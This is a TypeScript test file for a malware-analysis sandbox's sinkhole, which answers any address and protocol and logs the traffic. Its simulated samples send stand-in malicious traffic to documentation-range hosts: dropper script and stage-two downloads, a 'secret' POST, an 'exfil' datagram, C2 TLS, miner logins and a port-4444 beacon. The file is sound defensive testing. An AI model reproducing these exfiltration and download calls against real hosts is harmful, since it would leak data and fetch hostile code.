import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { SinkRecord } from "@airlock/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createRunName } from "../run-name.ts";
import { createSampleNetwork, type SampleNetwork } from "./sample-network.ts";
import { ofKind, readSinkLog, SampleStandIn } from "./sample-stand-in.ts";
import { startSinkhole } from "./sinkhole.ts";

let sample: SampleStandIn;
let network: SampleNetwork;
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "airlock-test-"));
  sample = await SampleStandIn.start();
  network = await createSampleNetwork({ runName: createRunName(), pausePid: sample.pid });
});
afterAll(async () => {
  await network.dispose();
  await sample.stop();
  await rm(folder, { recursive: true });
});

describe("the sinkhole", () => {
  it("answers each protocol at any address and port, and logs what was asked for where", async () => {
    const logPath = join(folder, "sink.ndjson");
    const sinkhole = await startSinkhole({ network, logPath, logBytes: 1_000_000, exposedPorts: [] });
    expect(sinkhole.alive).toBe(true);
    await checkNames();
    await checkHttp();
    await checkTls();
    await checkOthers();
    await checkEcho();
    const stopped = await sinkhole.stop();
    expect(sinkhole.alive).toBe(false);

    const all = await readSinkLog(logPath);
    expect(stopped).toEqual({ requests: all.length - 1, logTruncated: false });
    expect(all.at(-1)).toMatchObject({ kind: "account", unwritten: 0, failures: 0, droppedDatagrams: 0 });
    checkDnsLog(all);
    checkHttpLog(all);
    expect(ofKind(all, "tls")).toMatchObject([
      {
        serverName: "c2.example.org",
        destinationIp: "198.51.100.9",
        destinationPort: 4443,
        established: true,
        alpn: [],
      },
      { serverName: "", destinationIp: "2001:db8::44", destinationPort: 8443, established: true, version: "1.3" },
    ]);
    expect(ofKind(all, "udp")).toContainEqual(
      expect.objectContaining({
        destinationIp: "203.0.113.50",
        destinationPort: 40000,
        first: Buffer.from("exfil").toString("base64"),
        datagrams: 1,
      }),
    );
    const late = ofKind(all, "tcp").find((record) => record.destinationIp === "198.51.100.34");
    expect(late).toMatchObject({ application: "stratum", first: expect.stringMatching(/^eyJpZCI/) as string });
    const large = ofKind(all, "udp").find((record) => record.destinationIp === "203.0.113.51");
    expect(large).toMatchObject({ destinationPort: 777, bytesIn: 5000 });
    const raw = ofKind(all, "tcp").find((record) => record.destinationIp === "203.0.113.9");
    expect(raw).toMatchObject({
      application: "unknown",
      destinationPort: 4444,
      first: Buffer.from("\x00\x01beacon\xff", "latin1").toString("base64"),
      bytesIn: 9,
      end: "sample",
    });
  });
});

async function checkNames(): Promise<void> {
  const answers = await sample.run<Record<string, unknown>>(
    `const ask = async (server) => {
       const resolver = new dns.Resolver({ timeout: 2000, tries: 1 });
       resolver.setServers([server]);
       const a = await resolver.resolve4("c2.example.org"), aaaa = await resolver.resolve6("c2.example.org");
       return { a, aaaa, back: [...await resolver.reverse(a[0]), ...await resolver.reverse(aaaa[0])],
         own: await resolver.resolve4("payments-1"), localhost: await resolver.resolve4("localhost"),
         text: (await resolver.resolveTxt("x.test")).length, mail: (await resolver.resolveMx("x.test"))[0].exchange };
     };
     // A query for example.com, over TCP: length in front.
     const query = Buffer.from("001d123401000001000000000000076578616d706c6503636f6d0000010001", "hex").toString("latin1");
     const socket = net.connect(5353, "2001:db8::99", () => socket.write(query, "latin1"));
     const stream = await new Promise((resolve) => socket.once("data", (d) => resolve(d.toString("hex"))));
     return { v4: await ask("172.17.0.1"), v6: await ask("[2001:db8::53]:53"), odd: await ask("9.9.9.9:5300"), stream };`,
  );
  const expected = {
    a: ["198.18.0.2"],
    aaaa: ["2001:db8:5eed::2"],
    back: ["c2.example.org", "c2.example.org"],
    own: ["172.17.0.2"],
    localhost: ["127.0.0.1"],
    text: 1,
    mail: "mail.x.test",
  };
  expect(answers).toMatchObject({ v4: expected, v6: expected, odd: expected });
  expect(answers["stream"]).toMatch(/^002d1234818000010001.*c6120001$/);
}

async function checkHttp(): Promise<void> {
  const got = await sample.run<{ status: number; type: string; text: string }[]>(
    `return [
       await request({ host: "203.0.113.77", port: 8081, path: "/a/b.sh?q=1", headers: { "User-Agent": "dropper/1" } }),
       await request({ host: "2001:db8::80", port: 80, path: "/stage2.bin" }),
       await request({ host: "192.0.2.1", port: 9999, method: "POST", path: "/in", headers: { Accept: "application/json" } }, "secret"),
     ];`,
  );
  expect(got).toMatchObject([{ status: 200 }, { status: 200 }, { status: 200, type: "application/json" }]);
  expect(got[0]?.text).toMatch(/^#!\/bin\/sh\n/);
  expect(got[1]?.text).toMatch(/^\x7fELF/);
}

async function checkTls(): Promise<void> {
  const got = await sample.run<Record<string, { names: string; subject: string; text: string }>>(
    `const secure = (options) => new Promise((resolve, reject) => {
       const socket = tls.connect({ rejectUnauthorized: false, ...options }, () => {
         const { subjectaltname, subject } = socket.getPeerCertificate();
         socket.write("GET /x.json HTTP/1.1\\r\\nHost: inner\\r\\nConnection: close\\r\\n\\r\\n");
         let text = ""; socket.on("data", (d) => { text += d; });
         socket.on("end", () => resolve({ names: subjectaltname, subject: subject.CN, text }));
       });
       socket.on("error", reject);
     });
     return { named: await secure({ host: "198.51.100.9", port: 4443, servername: "c2.example.org" }),
       bare: await secure({ host: "2001:db8::44", port: 8443 }) };`,
  );
  expect(got["named"]).toMatchObject({ names: "DNS:c2.example.org", subject: "c2.example.org" });
  expect(got["bare"]?.names).toBe("IP Address:2001:DB8:0:0:0:0:0:44");
  expect(got["named"]?.text).toMatch(/^HTTP\/1\.1 200 OK/);
}

async function checkOthers(): Promise<void> {
  const got = await sample.run<Record<string, unknown>>(
    `const login = JSON.stringify({ id: 1, method: "login", params: { login: "x" } }) + "\\n";
     const late = (host, port, text) => new Promise((resolve) => {
       const socket = net.connect(port, host, () => socket.write("\\r\\n"));
       setTimeout(() => socket.write("\\r\\n".repeat(1100) + text), 600);
       socket.on("data", (d) => { socket.destroy(); resolve(d.toString("latin1")); });
     });
     return {
       miner: await exchange("198.51.100.33", 3333, login, 300),
       lateMiner: await late("198.51.100.34", 3333, login),
       latePost: await late("198.51.100.35", 80, "POST /late HTTP/1.1\\r\\nHost: late\\r\\nContent-Length: 4\\r\\n\\r\\nabcd"),
       mail: await exchange("198.51.100.25", 25, "", 1800),
       bytes: await new Promise((r) => { const s = net.connect(4444, "203.0.113.9", () => s.end(Buffer.from("0001626561636f6eff", "hex"))); s.on("close", () => r(true)); s.resume(); }),
       time: await datagram("203.0.113.123", 123, Buffer.concat([Buffer.from([0x23]), Buffer.alloc(47)])),
       silent: await new Promise((r) => { const s = net.connect(4445, "203.0.113.9", () => s.end()); s.on("close", () => r(true)); s.resume(); }),
       fragments: await datagram("203.0.113.51", 777, Buffer.alloc(5000, 65), 100),
       mute: await datagram("203.0.113.50", 40000, "exfil", 200),
     };`,
  );
  expect(JSON.parse(String(got["miner"]))).toMatchObject({ id: 1, result: { status: "OK" } });
  expect(JSON.parse(String(got["lateMiner"]))).toMatchObject({ id: 1, result: { status: "OK" } });
  expect(got["latePost"]).toMatch(/^HTTP\/1\.1 200 OK/);
  expect(got["mail"]).toMatch(/^220 /);
  expect(got["time"]).toMatchObject({ from: "203.0.113.123", port: 123 });
  expect(got["mute"]).toBeNull();
}

/** The kernel answers these, at any address. */
async function checkEcho(): Promise<void> {
  const got = await sample.run<string[]>(
    `const ping = (...args) => require("node:child_process").spawnSync("busybox", args, { encoding: "utf8" }).stdout;
     return [ping("ping", "-c1", "-W2", "8.8.4.4"), ping("ping", "-6", "-c1", "-W2", "2001:db8::1:2:3"), ping("ping", "-c1", "-W2", "172.17.0.99")];`,
  );
  for (const text of got) expect(text).toContain("1 packets received");
}

function checkDnsLog(all: readonly SinkRecord[]): void {
  const dns = ofKind(all, "dns");
  expect(dns).toContainEqual(
    expect.objectContaining({
      name: "c2.example.org",
      type: "AAAA",
      answers: ["2001:db8:5eed::2"],
      protocol: "udp",
      destinationIp: "2001:db8::53",
      destinationPort: 53,
    }),
  );
  expect(dns).toContainEqual(
    expect.objectContaining({
      name: "example.com",
      transport: "stream",
      destinationIp: "2001:db8::99",
      destinationPort: 5353,
    }),
  );
}

function checkHttpLog(all: readonly SinkRecord[]): void {
  const http = ofKind(all, "http");
  expect(http).toMatchObject([
    {
      method: "GET",
      target: "/a/b.sh?q=1",
      userAgent: "dropper/1",
      host: "203.0.113.77:8081",
      destinationIp: "203.0.113.77",
      destinationPort: 8081,
      answer: "script",
    },
    { destinationIp: "2001:db8::80", destinationPort: 80, answer: "program" },
    { method: "POST", bodyBytes: 6, body: Buffer.from("secret").toString("base64"), destinationIp: "192.0.2.1" },
    { encrypted: true, host: "inner", destinationIp: "198.51.100.9", destinationPort: 4443 },
    { encrypted: true, destinationIp: "2001:db8::44" },
    { method: "POST", target: "/late", host: "late", body: Buffer.from("abcd").toString("base64") },
  ]);
}
